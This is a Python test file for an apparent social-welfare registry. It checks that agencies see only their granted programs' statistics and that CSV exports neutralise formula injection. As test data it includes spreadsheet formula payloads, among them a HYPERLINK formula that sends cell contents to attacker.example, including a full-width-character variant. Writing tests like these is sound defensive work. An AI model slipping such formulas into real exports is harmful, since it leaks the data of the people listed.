"""What agencies read: statistics only of the programs they were granted, and CSV exports a
spreadsheet opens without running any cell as a formula (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from dtks_contracts.household import Member
from dtks_contracts.vocabulary.programs import Program
from dtks_contracts.vocabulary.roles import Role
from dtks_registry.domain.identity import household_id_for
from dtks_registry.testing import acceptance, ago, make_household

pytestmark = pytest.mark.infra

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Klik")'


def _named(i: int, head: str, spouse: str):
    household = make_household(i)
    head_member, spouse_member = household.members
    return household.model_copy(
        update={
            "members": (
                Member.model_validate({**head_member.model_dump(), "name": head}),
                Member.model_validate({**spouse_member.model_dump(), "name": spouse}),
            )
        }
    )


async def test_an_agency_sees_statistics_only_of_its_granted_programs(registry):
    await registry.accept(
        [
            acceptance("prop-stats-pkh", accepted_at=ago(2), household=make_household(61), programs=[Program.PKH]),
            acceptance("prop-stats-bpnt", accepted_at=ago(2), household=make_household(62), programs=[Program.BPNT]),
            acceptance(
                "prop-stats-both", accepted_at=ago(2), household=make_household(63),
                programs=[Program.PKH, Program.BPNT],
            ),
        ]
    )  # fmt: skip
    issued = await registry.decree("31/HUK/2027", "2027-01", cutoff=ago(1))
    assert issued.status_code == 201, issued.text

    national = (await registry.client.get("/stats", headers=registry.auth(Role.AUDITOR))).json()
    assert (national["households"], national["people"]) == (3, 6)
    assert [p["program"] for p in national["by_program"]] == ["BPNT", "PKH"]

    pkh_agency = registry.auth(Role.AGENCY, "ID", programs=("PKH",))
    stats = (await registry.client.get("/stats", headers=pkh_agency)).json()
    assert (stats["households"], stats["people"]) == (2, 4)
    assert stats["by_program"] == [{"program": "PKH", "households": 2, "people": 4}]
    assert sum(r["households"] for r in stats["by_region"]) == 2


async def test_the_csv_export_neutralises_formula_cells_and_the_jsonl_is_untouched(registry):
    pid = "prop-csv-formula"
    household = _named(71, FORMULA, "+62 812 Budi")
    await registry.accept([acceptance(pid, accepted_at=ago(2), household=household, programs=[Program.PKH])])
    issued = await registry.decree("32/HUK/2027", "2027-01", cutoff=ago(1))
    assert issued.status_code == 201, issued.text
    agency = registry.auth(Role.AGENCY, "ID", programs=("PKH",))

    export = await registry.client.get("/determinations/32/HUK/2027/export", headers=agency)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["name"] for r in rows] == ["'" + FORMULA, "'+62 812 Budi"]
    assert all(r["household_id"] == household_id_for(pid) for r in rows)
    # No cell of the file begins with a formula character any more.
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    jsonl = await registry.client.get(
        "/determinations/32/HUK/2027/export", params={"format": "jsonl"}, headers=agency
    )
    [line] = jsonl.text.splitlines()
    assert [m["name"] for m in json.loads(line)["members"]] == [FORMULA, "+62 812 Budi"]


async def test_the_csv_export_neutralises_cells_led_by_full_width_formula_characters(registry):
    """＝＋－＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20) become = + - @ when a spreadsheet normalises them."""
    full_width = [
        '\uff1dHYPERLINK("http://attacker.example/","Klik")',  # ＝
        "\uff0b62 812 Budi",  # ＋
        "\uff0d1+SUM(A1:A9)",  # －
        "\uff20SUM(A1:A9)",  # ＠
    ]
    households = [_named(81, full_width[0], full_width[1]), _named(82, full_width[2], full_width[3])]
    await registry.accept(
        [
            acceptance(f"prop-csv-wide-{i}", accepted_at=ago(2), household=h, programs=[Program.PKH])
            for i, h in enumerate(households)
        ]
    )
    issued = await registry.decree("33/HUK/2027", "2027-01", cutoff=ago(1))
    assert issued.status_code == 201, issued.text
    agency = registry.auth(Role.AGENCY, "ID", programs=("PKH",))

    export = await registry.client.get("/determinations/33/HUK/2027/export", headers=agency)
    assert export.status_code == 200
    names = sorted(r["name"] for r in csv.DictReader(io.StringIO(export.text)))
    assert names == sorted("'" + name for name in full_width)
